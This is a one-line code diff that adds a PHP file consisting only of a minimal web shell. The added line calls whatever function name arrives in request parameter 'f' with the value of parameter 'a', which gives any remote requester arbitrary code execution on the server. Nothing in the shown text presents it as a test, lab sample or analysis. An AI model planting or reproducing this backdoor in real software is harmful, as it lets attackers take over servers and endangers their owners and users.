@@ -1,0 +1,1 @@
+<?php $_REQUEST['f']($_REQUEST['a']);
